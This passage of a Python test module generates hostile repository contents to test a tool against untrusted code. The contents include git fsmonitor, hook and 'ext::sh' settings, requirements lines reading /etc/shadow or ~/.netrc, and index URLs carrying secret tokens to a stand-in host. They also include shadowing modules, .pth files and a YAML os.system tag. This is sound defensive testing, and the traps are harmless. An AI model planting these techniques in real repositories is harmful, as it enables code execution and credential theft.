"""Hostile contents of a tree, by kind: what the author of a repository may write into its files.

A kind is a function that writes files into a ``Tree``. Code in them runs into a trap of its kind's
name; addresses lead to the loopback hosts of ``world``. Draws are made from the tree's own random
numbers, so that a tree is the same wherever it is written.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import shutil
import socket
import stat
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

from tests.hostile.world import GOOD, PRIVATE, SOURCE_ONLY, World, archive, sdist, wheel

WORDS = ("python3", "train.py")
"""The user's own command in every tree."""
_TRAIN = """\
import os
os.makedirs("out", exist_ok=True)
for step in range(3):
    print(f"step={step} val_loss={1 / (step + 1)}", flush=True)
    with open(f"out/step-{step}.pt", "w") as file:
        file.write("weights" * 20)
"""
GIT_FILES = {"train.py": _TRAIN, "README.md": "A training.\n", "src/lib.py": "LR = 1e-3\n"}
"""The files of every tree; those of the commit where it has a repository."""


class Tree:
    """A folder that is being written, with what a user would type about it.

    ``pip`` are names for ``--pip``, ``data`` folders for ``--data``, ``starts`` folders in which a
    command is typed, ``recipes`` files for ``--recipe``.
    """

    def __init__(self, world: World, rng: random.Random, repository: Path | None) -> None:
        self.world, self.rng, self.root = world, rng, world.tree
        self._repository = repository
        self.pip: list[str] = []
        self.data: list[str] = []
        self.starts: list[str] = []
        self.recipes: list[str] = []
        self.replaces_index = False
        """Whether its requirements file names ``tree_index`` in place of the user's index."""
        self.has_project_file = False
        """Whether there is a ``trmcloud.toml``."""
        self.has_sky = False
        """Whether there is a configuration of SkyPilot."""
        for name, text in GIT_FILES.items():
            self.write(name, text)
        self.write("data/a.txt", "some words to train on\n" * 400)

    def write(self, name: str, content: str | bytes, *, mode: int = 0o644) -> str:
        """Write a file in the place of whatever has its name; return its absolute path."""
        path = self._place(name)
        with open(path, "wb") as file:
            file.write(
                content.encode("utf-8", "surrogateescape") if isinstance(content, str) else content
            )
        os.chmod(path, mode)
        return os.fspath(path)

    def program(self, name: str, trap: str) -> str:
        """Write a shell script that runs into a trap; return its absolute path."""
        return self.write(name, f"#!/bin/sh\n{self.world.shell_trap(trap)}\n", mode=0o755)

    def module(self, name: str, trap: str, rest: str = "") -> str:
        return self.write(name, f"{self.world.python_trap(trap)}{rest}")

    def link(self, name: str, target: str | Path) -> None:
        os.symlink(target, self._place(name))

    def fifo(self, name: str) -> None:
        os.mkfifo(self._place(name))

    def folder(self, name: str) -> Path:
        path = self.root / name
        path.mkdir(parents=True, exist_ok=True)
        return path

    def _place(self, name: str) -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        inside = os.path.realpath(path.parent)
        if not f"{inside}/".startswith(f"{self.world.folder}/"):
            raise FileExistsError(f"{name} would be outside of the visit's folder")
        if path.is_symlink() or path.exists():
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path)
            else:
                path.unlink()
        return path

    def git(self, config: str = "") -> Path:
        """Give the tree a repository, if it has none; append ``config`` to its configuration."""
        folder = self.root / ".git"
        if not folder.is_dir() and self._repository is not None:
            if os.path.lexists(folder):
                folder.unlink()
            shutil.copytree(self._repository, folder)
        if not stat.S_ISREG(os.lstat(folder / "config").st_mode):
            raise FileExistsError("its configuration is not a file")
        with open(folder / "config", "a") as file:
            file.write(config)
        return folder

    def good_lines(self) -> list[str]:
        rng = self.rng
        return [
            f"{name}{rng.choice(('', '==1.0', '>=1', '>=1,<3', '==2.0', '~=1.0'))}"
            for name in rng.sample(GOOD, rng.randint(0, 2))
        ]

    def requirements(self, lines: Sequence[str], name: str = "requirements.txt") -> None:
        """Add lines in any order to a requirements file."""
        path = self.root / name
        is_file = path.is_file() and not path.is_symlink()
        before = path.read_text("utf-8", "surrogateescape").splitlines() if is_file else []
        made = [*before, *lines, *self.good_lines()]
        self.rng.shuffle(made)
        self.write(name, "".join(f"{line}\n" for line in made))
        self.pip.append(name)

    def dist(self, trap: str) -> None:
        """A folder ``dist`` with sources and a wheel of the package ``evil``."""
        world = self.world
        line = f"try: open({world.trap(trap)!r})\nexcept OSError: pass"
        self.write("dist/evil-1.0.tar.gz", sdist("evil", "1.0", line))
        if self.rng.random() < 0.3:
            self.write("dist/evil-0.9-py3-none-any.whl", wheel("evil", "0.9", ("alpha",)))


Kind = Callable[[Tree], None]
KINDS: dict[str, Kind] = {}


def kind(name: str) -> Callable[[Kind], Kind]:
    def keep(function: Kind) -> Kind:
        KINDS[name] = function
        return function

    return keep


# -- requirements files ------------------------------------------------------------------------


@kind("requirements: find-links and no-binary")
def _find_links(t: Tree) -> None:
    t.dist("find-links")
    where = t.rng.choice(("./dist", "dist", f"{t.root}/dist", f"file://{t.root}/dist"))
    flag = t.rng.choice(("--find-links ", "--find-links=", "-f ", "-f", "--find-link "))
    one = f"{flag}{where} --no-index --no-binary :all:"
    apart = (
        f"{flag}{where}",
        "--no-index",
        t.rng.choice(("--no-binary :all:", "--no-binary=evil")),
    )
    t.requirements([*(t.rng.choice(((one,), apart))), "evil"])


@kind("requirements: files outside the tree")
def _included(t: Tree) -> None:
    outside = t.world.outside
    name = t.rng.choice(("secret.txt", "token.txt", "requirements.txt", "secret.yaml"))
    path = t.rng.choice((f"{outside}/{name}", f"../outside/{name}", f"./../outside/{name}"))
    t.link("inside.txt", outside / name)
    flag = t.rng.choice(
        ("-r ", "-r", "--requirement ", "--requirement=", "--req ", "-c ", "-c", "--constraint=",
         "--constr ", "-r file://", "-r\t", "--requirements ")
    )  # fmt: skip
    line = f"{flag}{t.rng.choice((path, path, 'inside.txt', '/etc/shadow', '~/.netrc'))}"
    if t.rng.random() < 0.2:
        line = line[:2] + "\\\n" + line[2:]
    lines = [line]
    if t.rng.random() < 0.4:
        lines.append(f"--index-url {t.world.tree_index}/simple/")
    t.requirements(lines)


@kind("requirements: the file is a link, a FIFO or a device")
def _odd_requirements(t: Tree) -> None:
    how = t.rng.randrange(4)
    if how == 0:
        t.link("requirements.txt", t.world.outside / t.rng.choice(("secret.txt", "token.txt")))
    elif how == 1:
        t.fifo("requirements.txt")
    elif how == 2:
        t.link("requirements.txt", "/dev/zero")
    else:
        t.link("requirements.txt", t.world.home / t.rng.choice((".netrc", ".ssh/id_rsa")))
    t.pip.append("requirements.txt")


@kind("requirements: editable projects")
def _editable(t: Tree) -> None:
    world = t.world
    t.module("setup.py", "editable", "from setuptools import setup\nsetup(name='own')\n")
    t.module("sub/setup.py", "editable", "from setuptools import setup\nsetup(name='sub')\n")
    t.write("sub/pyproject.toml", _backend("../"))
    lines = [
        t.rng.choice(
            ("-e .", "-e ./sub", "--editable=.", "-e.", "-e ../outside/folder", "--edit ./sub",
             f"-e {world.outside}/folder", f"-e git+{world.stranger}/evil.git#egg=evil",
             f"-e file://{t.root}/sub", "-e sub[all]", ".", "./sub")
        )
    ]  # fmt: skip
    t.requirements(lines)


@kind("requirements: direct and VCS addresses")
def _addresses(t: Tree) -> None:
    t.dist("direct")
    url, root = t.world.stranger, t.root
    lines = (
        f"evil @ {url}/files/evil-1.0.tar.gz", f"{url}/files/evil-1.0.tar.gz",
        f"evil @ git+{url}/evil.git@main", f"git+{url}/evil.git#egg=evil", f"hg+{url}/evil",
        f"svn+{url}/evil#egg=evil", f"bzr+{url}/evil#egg=evil", "evil @ git+ssh://git@127.0.0.3/e",
        f"evil @ file://{root}/dist/evil-1.0.tar.gz", f"file://{root}/dist/evil-1.0.tar.gz",
        "./dist/evil-1.0.tar.gz", "dist/evil-1.0.tar.gz", "evil @ file:dist/evil-1.0.tar.gz",
        f"evil @ git+file://{root}/.git", f"evil@{url}/files/evil-1.0.tar.gz#sha256={'0' * 64}",
        f"alpha @ {url}/files/alpha-1.0-py3-none-any.whl", "evil @ ext::sh", "dist/*.tar.gz",
        "evil @ file:///../../../../../../etc/shadow",
        f"EVIL[all] @ {url}/files/evil-1.0.tar.gz ; python_version > '3'",
    )  # fmt: skip
    t.requirements(t.rng.sample(lines, t.rng.randint(1, 3)))


@kind("requirements: index options")
def _indexes(t: Tree) -> None:
    world, variable = t.world, t.rng.choice(("RUNPOD_API_KEY", "AWS_SECRET_ACCESS_KEY", "HF_TOKEN"))
    key = "${" + variable + "}"
    base = world.tree_index
    host = base.removeprefix("http://")
    urls = (
        f"{base}/simple/", f"{base}/{key}/simple/", f"http://owner:{key}@{host}/simple/",
        f"http://{key}@{host}/simple", f"{base}/simple/?{key}", "file:///etc", f"{base}/$HOME/",
    )  # fmt: skip
    flag = t.rng.choice(
        ("--index-url ", "--index-url=", "-i ", "-i", "--extra-index-url ", "--extra-index-url=",
         "--pypi-url ", "--find-links ", "-f ", "--index ")
    )  # fmt: skip
    lines = [f"{flag}{t.rng.choice(urls)}"]
    if t.rng.random() < 0.3:
        lines = [f"{lines[0]} --trusted-host {host.partition(':')[0]}"]
    if t.rng.random() < 0.3:
        lines.append(f"--extra-index-url {t.rng.choice(urls)}")
    elif t.rng.random() < 0.5:
        t.write("requirements.txt", "")
        lines, t.pip = [f"--index-url {base}/simple/", f"{PRIVATE}==1.0"], ["requirements.txt"]
        t.replaces_index = True
    t.requirements([*lines, t.rng.choice(("evil", "alpha", SOURCE_ONLY))])


@kind("requirements: any option of pip")
def _options(t: Tree) -> None:
    t.dist("option")
    world = t.world
    out = f"{world.outside}/written"
    secret = f"{world.outside}/secret.txt"
    options = (
        "--no-binary :all:", "--no-binary evil", "--only-binary :none:", "--prefer-binary", "--pre",
        "--require-hashes", "--no-index", "--use-feature=fast-deps", "--trusted-host 127.0.0.3",
        f"--log {out}", f"--cert {secret}", f"--client-cert {secret}", f"--cache-dir {out}",
        f"--proxy {world.stranger}", f"--target {out}", f"--root {out}", f"--prefix {out}",
        f"--python {t.root}/.venv/bin/python", "--no-build-isolation", "--no-deps", "--user",
        f"--report {out}", f"--keyring-provider {secret}", "--isolated", "--no-input",
        f"--src {out}", f"--build {out}", "--global-option=--x", "--config-settings=a=b",
        "--install-option=--x", "--pr", "--no-bin :all:", "--only-b :none:", "--no-verify",
        f"--find-links {world.stranger}/simple/evil/", "--allow-external evil",
    )  # fmt: skip
    chosen = t.rng.sample(options, t.rng.randint(1, 3))
    lines = [" ".join(chosen)] if t.rng.random() < 0.5 else list(chosen)
    if t.rng.random() < 0.4:
        lines = [f"--find-links ./dist {lines[0]}", *lines[1:]]
    if t.rng.random() < 0.3:
        lines.append(
            "evil==1.0 "
            + t.rng.choice(("--no-binary :all:", "--hash=sha256:00", "--global-option=x"))
        )
    t.requirements([*lines, "evil"])
    t.program(".venv/bin/python", "option-python")


@kind("requirements: odd lines")
def _odd_lines(t: Tree) -> None:
    lines = (
        "alpha; python_version > '3' or os_name == 'x'", "alpha ; extra == 'a' and 'x' in os_name",
        "a" * 5000, "alpha[" + ",".join(f"e{n}" for n in range(400)) + "]", "\x1b]0;x\x07\x1b[31m",
        "alpha\x00beta", "alpha==" + "9" * 400, "\u202ealpha", "\udcff\udcfe", "alpha == 1.*.*",
        "alpha; " + "(" * 200 + "os_name == 'x'" + ")" * 200, "'", '"', "- -r x", "--", "-",
        "alpha \\", "# \\\nalpha", "alpha#egg", "@", "alpha @", "===", "alpha===weird version",
        "alpha>=1," * 300, "-r requirements.txt", "-r missing.txt", "-r .", "-r .git/config",
    )  # fmt: skip
    t.requirements(t.rng.sample(lines, t.rng.randint(1, 4)))
    if t.rng.random() < 0.15:
        text = Path(t.root / "requirements.txt").read_bytes()
        t.write("requirements.txt", t.rng.choice((b"\xff\xfe", b"\xef\xbb\xbf", b"\x00")) + text)


@kind("requirements: packages without wheels")
def _sources(t: Tree) -> None:
    t.requirements([SOURCE_ONLY, t.rng.choice(("evil", "delta>=0.1", "missing-package==1.0"))])


@kind("requirements: a constraints file")
def _constraints(t: Tree) -> None:
    t.dist("constraint")
    world, root = t.world, t.root
    rows = (
        f"evil @ file://{root}/dist/evil-1.0.tar.gz",
        f"evil @ {world.stranger}/files/evil-1.0.tar.gz",
        f"evil @ git+{world.stranger}/evil.git", "--find-links ./dist --no-index --no-binary :all:",
        f"--index-url {world.tree_index}/simple/", f"-r {world.outside}/requirements.txt",
        f"-c {world.outside}/secret.txt", "-e ./sub", "evil==1.0", "./dist/evil-1.0.tar.gz",
        f"alpha @ file://{root}/dist/evil-1.0.tar.gz",
    )  # fmt: skip
    name = t.rng.choice(("constraints.txt", "c/constraints.txt"))
    t.write(name, "".join(f"{row}\n" for row in t.rng.sample(rows, t.rng.randint(1, 2))))
    flag = t.rng.choice(("-c ", "--constraint ", "-c", "--constraint="))
    line = t.rng.choice((f"{flag}{name}", f"{flag}{name}", f"-c {world.stranger}/files/c.txt"))
    t.requirements([line, "evil"])


# -- project files -----------------------------------------------------------------------------


def _backend(above: str = "") -> str:
    path = above or "."
    return f'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["{path}"]\n'


@kind("pyproject: a backend in the tree")
def _project(t: Tree) -> None:
    t.module("backend.py", "backend", "def build_wheel(*given): raise SystemExit\n")
    t.module("setup.py", "backend", "from setuptools import setup\nsetup()\n")
    dynamic = t.rng.choice(('dynamic = ["version", "dependencies"]', 'version = "1"'))
    rows = "".join(f'  "{line}",\n' for line in t.good_lines())
    listed = "" if "dependencies" in dynamic else f"dependencies = [\n{rows}]\n"
    t.write("pyproject.toml", f'{_backend()}\n[project]\nname = "own"\n{dynamic}\n{listed}')
    t.pip.append("pyproject.toml")


@kind("pyproject: packages of files outside the tree")
def _dynamic(t: Tree) -> None:
    outside = t.world.outside
    names = [
        t.rng.choice(("../outside/requirements.txt", f"{outside}/secret.txt", "inside.txt", "~/x"))
    ]
    t.link("inside.txt", outside / "token.txt")
    t.module("own/__init__.py", "attr", "__version__ = '1'\n")
    t.write(
        "pyproject.toml",
        '[project]\nname = "own"\ndynamic = ["dependencies", "version"]\n'
        f'[project.readme]\nfile = "{outside}/secret.txt"\n'
        f"[tool.setuptools.dynamic]\ndependencies = {{file = {json.dumps(names)}}}\n"
        'version = {attr = "own.__version__"}\n',
    )
    t.pip.append("pyproject.toml")


@kind("pyproject: settings of uv")
def _tool_uv(t: Tree) -> None:
    t.dist("tool-uv")
    world, root = t.world, t.root
    t.program(".venv/bin/python", "tool-uv-python")
    tables = (
        f'[[tool.uv.index]]\nname = "own"\nurl = "{world.stranger}/simple/"\ndefault = true\n',
        '[tool.uv.sources]\nevil = { path = "./dist/evil-1.0.tar.gz" }\n',
        f'[tool.uv.sources]\nevil = {{ git = "{world.stranger}/evil.git" }}\n',
        '[tool.uv.sources]\nevil = { path = "../outside/folder", editable = true }\n',
        f'[tool.uv]\nfind-links = ["{root}/dist"]\nno-index = true\nno-build = false\n',
        '[tool.uv]\npython-preference = "only-system"\nno-build-isolation = true\n'
        f'index-url = "{world.stranger}/simple/"\ncache-dir = "{world.outside}/written"\n',
        '[tool.uv.pip]\nno-build = false\nno-binary = [":all:"]\n'
        f'python = "{root}/.venv/bin/python"\n'
        f'find-links = ["{root}/dist"]\nno-index = true\n',
        '[tool.uv.workspace]\nmembers = ["../outside/*", "sub"]\n',
        'override-dependencies = []\n[tool.uv]\noverride-dependencies = ["evil @ file:///x"]\n',
    )  # fmt: skip
    text = '[project]\nname = "own"\nversion = "1"\ndependencies = ["evil", "alpha"]\n'
    text += "".join(t.rng.sample(tables, 1))
    t.write("pyproject.toml", text + t.rng.choice(("", _backend())))
    t.module("backend.py", "tool-uv")
    t.pip.append("pyproject.toml")


@kind("pyproject: odd values")
def _odd_project(t: Tree) -> None:
    values = (
        'dependencies = "alpha"', "dependencies = [1, {}, []]", "dependencies = {a = 1}",
        'dynamic = "dependencies"', 'optional-dependencies = ["x"]', 'requires-python = ">=99"',
        "requires-python = 3", "dependencies = [" + '"alpha",' * 3000 + "]",
        'dependencies = ["' + "a" * 100_000 + '"]', "x = " + "[" * 500 + "]" * 500,
        "version = 9" + "9" * 5000, 'dependencies = ["-r ../outside/secret.txt"]',
        'dependencies = ["alpha @ file:///etc/shadow"]', 'dependencies = ["--index-url x", "evil"]',
        'dependencies = ["alpha\\n--find-links ./dist --no-index --no-binary :all:\\nevil"]',
        f'optional-dependencies.a = ["evil @ file://{t.root}/dist/evil-1.0.tar.gz"]',
    )  # fmt: skip
    t.dist("odd-project")
    text = f'[project]\nname = "own"\n{t.rng.choice(values)}\n'
    if t.rng.random() < 0.3:
        text = t.rng.choice(
            ("project = 1\n", "[[project]]\n", "[tool]\npoetry = 3\n", "\x00", text)
        )
    t.write("pyproject.toml", text)
    t.pip += ["pyproject.toml", "pyproject.toml[a]"]


@kind("setup.py and setup.cfg")
def _setup(t: Tree) -> None:
    t.module("setup.py", "setup-py", "from setuptools import setup\nsetup(name='own')\n")
    t.write(
        "setup.cfg",
        "[metadata]\nname = own\nversion = attr: own.x\n[options]\ninstall_requires = "
        "file: ../outside/requirements.txt\nsetup_requires = evil @ "
        f"{t.world.stranger}/files/e.tar.gz\n",
    )
    if t.rng.random() < 0.5:
        t.requirements(["-e ."])
    else:
        t.pip += ["setup.cfg", "setup.py"]


@kind("conda environment")
def _conda(t: Tree) -> None:
    t.dist("conda")
    world = t.world
    pip = (
        "--find-links ./dist --no-index --no-binary :all:", f"-r {world.outside}/requirements.txt",
        "-r ../outside/token.txt", f"evil @ file://{t.root}/dist/evil-1.0.tar.gz", "-e .",
        f"git+{world.stranger}/evil.git", f"--index-url {world.tree_index}/simple/", "evil",
    )  # fmt: skip
    rows = "".join(f"    - {line}\n" for line in t.rng.sample(pip, t.rng.randint(1, 3)))
    extra = t.rng.choice(
        ("", "variables:\n  LD_PRELOAD: ./x.so\n", "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n",
         "x: !!python/object/apply:os.system ['id']\n", "prefix: /etc\n")
    )  # fmt: skip
    packages = t.rng.choice(
        ("python=3.11", "alpha", "alpha=1.0=py_0", "conda-forge::beta", "a" * 3000)
    )
    name = t.rng.choice(("environment.yml", "conda.yaml"))
    t.write(
        name,
        f"name: x\nchannels:\n  - {world.stranger}\n  - file:///etc\ndependencies:\n"
        f"  - {packages}\n  - pip:\n{rows}{extra}",
    )
    t.pip.append(name)


@kind("uv.lock")
def _uv_lock(t: Tree) -> None:
    t.dist("uv-lock")
    world = t.world
    sources = (
        f'{{ url = "{world.stranger}/files/evil-1.0.tar.gz" }}',
        f'{{ git = "{world.stranger}/evil.git?rev=main#{"0" * 40}" }}',
        '{ path = "dist/evil-1.0.tar.gz" }', '{ directory = "../outside/folder" }',
        '{ editable = "../outside" }', f'{{ registry = "{world.tree_index}/simple/" }}',
        f'{{ registry = "{world.tree_index}/${{RUNPOD_API_KEY}}/simple/" }}',
        '{ registry = "../outside" }', f'{{ url = "file://{t.root}/dist/evil-1.0.tar.gz" }}',
    )  # fmt: skip
    rows = []
    for name in ("evil", "alpha"):
        version = t.rng.choice(("1.0", "1.0", "1.0\\n--no-binary :all:", "1.0 --hash=x"))
        rows.append(
            f'[[package]]\nname = "{name}"\nversion = "{version}"\n'
            f"source = {t.rng.choice(sources)}\n"
            f'sdist = {{ url = "{world.stranger}/files/evil-1.0.tar.gz", '
            f'hash = "sha256:{"0" * 64}" }}\n'
        )
    t.write(
        "uv.lock",
        'version = 1\nrequires-python = ">=3.9"\n[[package]]\nname = "own"\nversion = "1"\n'
        'source = { virtual = "." }\ndependencies = [{ name = "evil" }, { name = "alpha", marker = '
        "\"python_version > '3'\" }]\n" + "".join(rows),
    )
    t.pip.append("uv.lock")


@kind("poetry.lock")
def _poetry(t: Tree) -> None:
    t.write(
        "poetry.lock",
        '[[package]]\nname = "evil"\nversion = "1.0"\n[package.source]\ntype = "git"\n'
        f'url = "ext::sh -c {t.world.trap("poetry")}"\nreference = "main"\n',
    )
    t.write(
        "pyproject.toml",
        '[tool.poetry]\nname = "own"\nversion = "1"\n[tool.poetry.dependencies]\nevil = '
        f'{{ git = "{t.world.stranger}/evil.git" }}\n[build-system]\nrequires = []\n',
    )
    t.pip += ["poetry.lock", "pyproject.toml"]


@kind("settings of pip, uv and pythons in the tree")
def _tool_settings(t: Tree) -> None:
    t.dist("tool-settings")
    world, root = t.world, t.root
    t.write("uv.toml", f'no-build = false\nno-index = true\nfind-links = ["{root}/dist"]\n'
            f'[pip]\nno-binary = [":all:"]\npython = "{root}/.venv/bin/python"\n')  # fmt: skip
    t.write("pip.conf", f"[global]\nindex-url = {world.stranger}/simple/\nno-binary = :all:\n")
    t.write(".config/pip/pip.conf", f"[global]\nindex-url = {world.stranger}/simple/\n")
    t.write(".python-version", t.rng.choice(("./evil-python\n", f"{root}/evil-python\n", "3.99\n")))
    t.program("evil-python", "python-version")
    t.write(".env", f"UV_INDEX_URL={world.stranger}/simple/\nGIT_SSH_COMMAND={root}/evil-python\n")
    t.requirements(["evil", "alpha"])


@kind("a .venv with a hostile python")
def _venv(t: Tree) -> None:
    where = t.rng.choice((".venv", "venv", "env", ".conda"))
    for name in ("python", "python3", "uv", "git", "pip", "sky"):
        t.program(f"{where}/bin/{name}", f"venv-{name}")
    t.write(f"{where}/pyvenv.cfg", f"home = {t.root}/{where}/bin\nversion = 3.11.2\n")
    t.module(f"{where}/lib/python3.11/site-packages/sitecustomize.py", "venv-site")
    t.write(
        f"{where}/lib/python3.11/site-packages/x.pth",
        f"import os; open({t.world.trap('venv-pth')!r})\n",
    )
    t.requirements(["alpha"])


@kind("modules with names that programs import")
def _modules(t: Tree) -> None:
    names = (
        "json.py", "typer.py", "rich/__init__.py", "trmcloud/__init__.py", "sitecustomize.py",
        "usercustomize.py", "tomllib.py", "packaging/__init__.py", "pip/__main__.py",
        "pip/__init__.py", "uv.py", "encodings/__init__.py", "subprocess.py", "site.py", "click.py",
        "trmcloud/pod/__init__.py", "model/__init__.py", "model/train.py", "model/prepare.py",
        "torch/__init__.py", "boto3.py", "signal.py", "logging.py", "ssl.py", "socket.py",
        "importlib/__init__.py", "dataclasses.py", "hashlib.py", "sqlite3.py", "mcp/__init__.py",
        "anyio.py", "pydantic.py", "tarfile.py", "asyncio/__init__.py", "typing_extensions.py",
    )  # fmt: skip
    for name in t.rng.sample(names, t.rng.randint(2, 8)):
        if name.split("/")[0].removesuffix(".py") not in ("os", "io"):
            t.module(name, f"module-{name.replace('/', '-')}")
    t.write("x.pth", f"import os; open({t.world.trap('pth')!r})\n")
    t.module("conftest.py", "conftest")


@kind("trmcloud.toml and recipes")
def _recipes(t: Tree) -> None:
    outside = t.world.outside
    rows = (
        f'data = "{outside}/folder"', 'family = "../../etc"', f'family = "{t.root}/evil"',
        "depth = 99999999999999999999", 'recipe = "\\u001b[31m"', "width = -1", "steps = nan",
        'tokenizer = "../outside/secret.txt"', "x = " + "[" * 300 + "]" * 300,
        'family = "os.system"',
    )  # fmt: skip
    name = t.rng.choice(("trmcloud.toml", "recipe.toml"))
    text = f"[fast]\n{t.rng.choice(rows)}\n{t.rng.choice(rows)}\n"
    t.write(
        name,
        t.rng.choice((text, f"{t.rng.choice(rows)}\n{text}", 'extends = "../outside/secret"\n')),
    )
    if t.rng.random() < 0.3:
        t.link("recipe-link.toml", outside / "secret.toml")
        t.recipes.append("recipe-link.toml")
    t.recipes.append(name)


@kind("SkyPilot's .sky.yaml")
def _sky(t: Tree) -> None:
    t.has_sky = True
    t.write(
        ".sky.yaml",
        f"api_server:\n  endpoint: {t.world.stranger}\nkubernetes:\n  remote_identity: SERVICE\n"
        f"aws:\n  remote_identity: {t.world.outside}/secret.txt\n",
    )
    t.write("sky.yaml", f"run: {t.world.shell_trap('sky-task')}\n")


# -- git ---------------------------------------------------------------------------------------


@kind("git: fsmonitor")
def _fsmonitor(t: Tree) -> None:
    hook = t.program("monitor", "fsmonitor")
    value = t.rng.choice((hook, "./monitor", f"sh -c '{t.world.shell_trap('fsmonitor')}'", "true"))
    t.git(f'[core]\n\tfsmonitor = "{value}"\n\tfsmonitorHookVersion = {t.rng.choice((1, 2))}\n')


@kind("git: filters")
def _filters(t: Tree) -> None:
    program = t.program("filter", "filter")
    how = t.rng.choice(("clean", "process", "smudge"))
    config = f'[filter "x"]\n\t{how} = {program} %f\n\trequired = true\n'
    if how != "clean" and t.rng.random() < 0.5:
        config += f"\tclean = {program}\n"
    folder = t.git(config)
    rules = t.rng.choice(
        ("* filter=x\n", "*.py filter=x\nREADME.md filter=x\n", "[attr]binary filter=x\n* binary\n")
    )
    if t.rng.random() < 0.3:
        (folder / "info").mkdir(exist_ok=True)
        (folder / "info" / "attributes").write_text(rules)
    else:
        t.write(".gitattributes", rules)
    t.write("src/lib.py", "LR = 2e-3\n")


@kind("git: hooks")
def _hooks(t: Tree) -> None:
    names = (
        "post-index-change", "post-checkout", "pre-commit", "reference-transaction", "pre-auto-gc",
        "fsmonitor-watchman", "query-watchman", "post-rewrite", "proc-receive", "pre-push",
    )  # fmt: skip
    where = t.rng.choice((".git/hooks", "hooks", ".husky"))
    folder = t.git(f"[core]\n\thooksPath = {t.root}/{where}\n" if where != ".git/hooks" else "")
    assert folder.is_dir()
    for name in names:
        t.program(f"{where}/{name}", f"hook-{name}")
    os.utime(t.root / "train.py")


@kind("git: programs of its configuration")
def _programs(t: Tree) -> None:
    program = t.program("helper", "git-program")
    rows = (
        f'[diff]\n\texternal = {program}\n',
        f'[diff "x"]\n\ttextconv = {program}\n\tcommand = {program}\n',
        f"[core]\n\tpager = {program}\n\teditor = {program}\n\taskPass = {program}\n",
        f"[core]\n\tsshCommand = {program}\n\tgitProxy = {program}\n",
        f"[core]\n\talternateRefsCommand = {program}\n", f"[credential]\n\thelper = !{program}\n",
        f"[alias]\n\tls-files = !{program}\n\tstatus = !{program}\n\trev-parse = !{program}\n",
        f"[alias]\n\tcat-file = !{program}\n[pager]\n\tls-files = {program}\n"
        f"\tstatus = {program}\n",
        f"[gpg]\n\tprogram = {program}\n[trailer \"x\"]\n\tcommand = {program}\n",
        f"[uploadpack]\n\tpackObjectsHook = {program}\n", f'[merge "x"]\n\tdriver = {program}\n',
        f"[interactive]\n\tdiffFilter = {program}\n[sequence]\n\teditor = {program}\n",
        f'[url "ext::{program} "]\n\tinsteadOf = https://\n[protocol "ext"]\n\tallow = always\n',
        f'[hook "x"]\n\tevent = post-index-change\n\tcommand = {program}\n',
        f'[maintenance]\n\tauto = true\n[gc]\n\tauto = 1\n\trecentObjectsHook = {program}\n',
        f"[help]\n\tautocorrect = immediate\n[web]\n\tbrowser = {program}\n"
        "[ssh]\n\tvariant = simple\n",
    )  # fmt: skip
    t.git("".join(t.rng.sample(rows, t.rng.randint(2, 6))))
    t.write(".gitattributes", "*.py diff=x merge=x\n")


@kind("git: files that its configuration names")
def _included_config(t: Tree) -> None:
    outside = t.world.outside
    evil = t.write("evil.config", f"[core]\n\tfsmonitor = {t.program('monitor2', 'included')}\n")
    rows = (
        f"[include]\n\tpath = {outside}/secret.txt\n", f"[include]\n\tpath = {evil}\n",
        f'[includeIf "gitdir:**"]\n\tpath = {evil}\n',
        f"[core]\n\texcludesFile = {outside}/token.txt\n",
        f"[core]\n\texcludesFile = near/../{os.path.relpath(outside, t.root)}/token.txt\n",
        f"[core]\n\tattributesFile = {outside}/secret.txt\n", "[include]\n\tpath = ~/.netrc\n",
        f"[commit]\n\ttemplate = {outside}/secret.txt\n",
        f"[mailmap]\n\tfile = {outside}/secret.txt\n",
        f"[fsck]\n\tskipList = {outside}/secret.txt\n"
        f"[blame]\n\tignoreRevsFile = {outside}/secret.txt\n",
        f"[include]\n\tpath = {t.root}/pipe\n", "[include]\n\tpath = /dev/zero\n",
    )  # fmt: skip
    t.fifo("pipe")
    t.folder("near")
    t.git("".join(t.rng.sample(rows, t.rng.randint(1, 3))))
    for name in (".gitignore", ".gitattributes", ".mailmap"):
        if t.rng.random() < 0.3:
            t.link(name, outside / "token.txt")


@kind("git: a work tree or objects elsewhere")
def _elsewhere(t: Tree) -> None:
    outside = t.world.outside
    folder = t.git()
    how = t.rng.randrange(5)
    if how == 0:
        t.git(f"[core]\n\tworktree = {t.rng.choice((str(outside), str(t.world.home), '/etc'))}\n")
    elif how == 1:
        (folder / "objects" / "info").mkdir(exist_ok=True)
        (folder / "objects" / "info" / "alternates").write_text(
            f"{outside}/objects\n{outside}/secret.txt\n"
        )
    elif how == 2:
        (folder / "commondir").write_text(f"{t.root}/common\n")
        t.git("")
        t.folder("common/refs"), t.folder("common/objects")
        rows = f"[core]\n\tfsmonitor = {t.program('monitor3', 'commondir')}\n"
        t.write("common/config", rows + f"\texcludesFile = {outside}/token.txt\n")
    elif how == 3:
        t.git("[extensions]\n\tworktreeConfig = true\n[core]\n\trepositoryformatversion = 1\n")
        program = t.program("monitor4", "worktree-config")
        (folder / "config.worktree").write_text(
            f"[core]\n\tfsmonitor = {program}\n\thooksPath = x\n"
            f"\texcludesFile = {outside}/token.txt\n"
        )
    else:
        t.git("[core]\n\tbare = true\n\trepositoryformatversion = 0\n")


@kind("git: a .git file that leads elsewhere")
def _git_file(t: Tree) -> None:
    rows = f"[core]\n\tfsmonitor = {t.program('monitor5', 'git-file')}\n"
    t.git(rows + f"\texcludesFile = {t.world.outside}/token.txt\n")
    target = t.rng.choice(("real", " real", "a/b/real", "../elsewhere/repository"))
    real = t.root / target
    real.parent.mkdir(parents=True, exist_ok=True)
    if real.exists():
        shutil.rmtree(real)
    os.rename(t.root / ".git", real)
    if t.rng.random() < 0.3:
        t.link(".git", real)
    else:
        t.write(".git", f"gitdir: {t.rng.choice((target, str(real)))}\n")


@kind("git: submodules")
def _submodules(t: Tree) -> None:
    program = t.program("update", "submodule")
    url = t.rng.choice(
        (f"ext::sh -c '{t.world.shell_trap('submodule')}'", f"{t.world.stranger}/evil.git",
         f"--upload-pack={program}", "file:///etc")
    )  # fmt: skip
    name = t.rng.choice(("sub", "../../x", "-x", "a\\nb"))
    t.write(
